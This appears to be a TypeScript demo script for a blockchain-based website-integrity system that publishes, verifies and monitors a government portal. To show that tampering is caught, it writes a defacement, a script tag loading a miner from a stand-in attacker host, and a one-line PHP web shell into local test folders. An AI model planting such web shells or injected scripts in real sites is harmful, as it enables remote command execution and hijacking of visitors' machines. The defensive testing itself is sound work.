import fs from "node:fs";
import path from "node:path";
import hre from "hardhat";
import type { Signer } from "ethers";
import type { Deployment } from "../src/config/deployments";
import { DirectoryClient } from "../src/directory/client";
import { Governance } from "../src/governance/governed";
import { loadKeccak } from "../src/hashing/keccak";
import { WebsiteClient } from "../src/websites/client";
import { writeSubresourceIntegrity } from "../src/websites/integrity";
import { walkFiles } from "../src/io/walk";
import { WELL_KNOWN_MANIFEST, buildManifest, manifestHash, manifestText, siteIdOf } from "../src/websites/manifest";
import { monitorLines, monitorSite, type MonitorEvent } from "../src/websites/monitor";
import { reportLines } from "../src/websites/report";
import { serveFolder } from "../src/websites/static-server";
import { verifyFolder, verifyServed } from "../src/websites/verify";
import { REVOCATION_REASONS } from "../src/websites/vocabulary";
import { SakshyaAuthority__factory } from "../typechain-types";

export interface SiteKeys {
  /** The SIA operator, who assigns the site to the department. */
  readonly operator: Signer;
  /** Two keys of the department: a release needs both. */
  readonly publishers: readonly [Signer, Signer];
}

const SITE = "it.wb.gov.in";
const INTERVAL_MS = 2_000;

/** Copies the sample portal into `dir`, writes SRI into its pages, and emits the manifest into it. */
async function buildRelease(dir: string, release: string, indent: string, edit?: (dir: string) => void) {
  fs.cpSync(path.join(__dirname, "samples", "site", "portal"), dir, { recursive: true });
  edit?.(dir);
  const integrity = writeSubresourceIntegrity(walkFiles(dir), SITE);
  const manifest = buildManifest(dir, { site: SITE, release, exclude: ["news/**"] }, await loadKeccak());
  const text = manifestText(manifest);
  fs.mkdirSync(path.join(dir, ".well-known"), { recursive: true });
  fs.writeFileSync(path.join(dir, WELL_KNOWN_MANIFEST), text);
  console.log(`${indent}Built ${release}: ${manifest.fileCount} files, SRI in ${integrity.tags} tags of ${integrity.pages.length} pages, news/** declared not covered; root ${manifest.root.slice(0, 18)}…`);
  return { manifest, hash: manifestHash(text) };
}

/** The served folder's contents become `from`'s, as a deployment would make them. */
function deploy(from: string, served: string) {
  fs.rmSync(served, { recursive: true, force: true });
  fs.cpSync(from, served, { recursive: true });
}

/**
 * A department publishes its portal with two approvals, a verifier checks the served site, a monitor catches a
 * defaced page and a script injected into an uncovered news page within one interval, alerts until the site is
 * restored, and follows the next release; a compromised release is revoked and the portal rolled back.
 */
export async function siteWalkThrough(deployment: Deployment, keys: SiteKeys, workDir: string): Promise<void> {
  const provider = hre.ethers.provider;
  const keccak = await loadKeccak();
  const siteId = siteIdOf(SITE);
  const authority = SakshyaAuthority__factory.connect(deployment.contracts.SakshyaAuthority.address, keys.operator);
  const directory = new DirectoryClient(deployment, keys.operator, new Governance(authority, keys.operator));
  const itDept = await directory.resolveOrganisation("it-dept");
  await directory.addAccount(itDept, await keys.publishers[1].getAddress());
  const reader = new WebsiteClient(deployment, provider);
  await reader.registerSite(new Governance(authority, keys.operator), siteId, itDept, 2);
  console.log(`✓ ${SITE} assigned to it-dept (organisation ${itDept}); a release needs 2 approvals`);

  const [first, second] = keys.publishers.map((key) => new WebsiteClient(deployment, provider, key));
  const release1 = path.join(workDir, "portal-2026.11.1");
  const built1 = await buildRelease(release1, "2026.11.1", "");
  const published = await first.publish(built1.manifest, built1.hash);
  console.log(`✓ release ${published.releaseId} published by the first key: pending, 1 of 2 approvals`);
  await second.approve(siteId, published.releaseId);
  console.log(`✓ approved by the second key: release ${published.releaseId} is current`);

  const served = path.join(workDir, "served");
  deploy(release1, served);
  const server = await serveFolder(served);
  try {
    console.log(`\nThe portal is served at ${server.url}; a verifier checks it against the chain:`);
    const report = await verifyServed(server.url, { site: SITE }, reader, keccak);
    for (const line of reportLines(report)) console.log(`  ${line}`);

    console.log(`\nA monitor checks every ${INTERVAL_MS / 1000} s. After its first check the home page is defaced and a script is injected into a news page (a path the release does not cover):`);
    let tamperedAt = 0;
    let detectedIn = 0;
    const release2 = path.join(workDir, "portal-2026.11.2");
    const script: Record<number, (event: MonitorEvent) => Promise<void>> = {
      1: async () => {
        fs.writeFileSync(path.join(served, "index.html"), "<!doctype html><h1>Hacked by the Anonymous Defacers</h1>");
        const news = path.join(served, "news", "2026-11-20.html");
        fs.writeFileSync(news, fs.readFileSync(news, "utf8").replace("</body>", '<script src="https://cdn.defacer.example/miner.js"></script></body>'));
        tamperedAt = Date.now();
      },
      2: async (event) => {
        detectedIn = Date.parse(event.report.checkedAt) - tamperedAt;
      },
      3: async () => {
        deploy(release1, served);
        console.log("  (the department restores release 2026.11.1 from its build)");
      },
      4: async () => {
        const built2 = await buildRelease(release2, "2026.11.2", "  ", (dir) => {
          const page = path.join(dir, "index.html");
          fs.writeFileSync(page, fs.readFileSync(page, "utf8").replace("</main>", "  <p>New: income certificates are now issued within 7 days.</p>\n  </main>"));
        });
        const { releaseId } = await first.publish(built2.manifest, built2.hash);
        await second.approve(siteId, releaseId);
        deploy(release2, served);
        console.log(`  (release ${releaseId} published, approved and deployed)`);
      },
    };
    await monitorSite(server.url, { site: SITE, intervalMs: INTERVAL_MS, maxChecks: 5 }, reader, keccak, async (event) => {
      for (const line of monitorLines(event)) console.log(`  ${line.replace(/^\S+ /, "")}`);
      await script[event.check]?.(event);
    });
    console.log(`Defacement and injected script caught ${(detectedIn / 1000).toFixed(1)} s after they happened (interval ${INTERVAL_MS / 1000} s).`);

    console.log("\nRelease 2026.11.2 turns out to have been signed with a stolen key: it is revoked and the portal rolled back to 2026.11.1.");
    await first.revoke(siteId, 2, REVOCATION_REASONS.indexOf("key-compromise"));
    await first.rollback(siteId, 1);
    const stale = await verifyServed(server.url, { site: SITE }, reader, keccak);
    console.log(`  ✗ before redeploying: ${stale.summary}`);
    deploy(release1, served);
    console.log(`  ✓ after redeploying: ${(await verifyServed(server.url, { site: SITE }, reader, keccak)).summary}`);

    console.log("\nA build folder checked before it goes live, with one file edited, one deleted and one added:");
    fs.appendFileSync(path.join(release1, "css", "site.css"), "body { background: red }\n");
    fs.rmSync(path.join(release1, "js", "app.js"));
    fs.writeFileSync(path.join(release1, "shell.php"), "<?php system($_GET['c']); ?>");
    const folder = await verifyFolder(release1, {}, reader, keccak);
    for (const line of reportLines(folder).filter((l) => !l.startsWith("✓ "))) console.log(`  ${line}`);
  } finally {
    await server.close();
  }
}
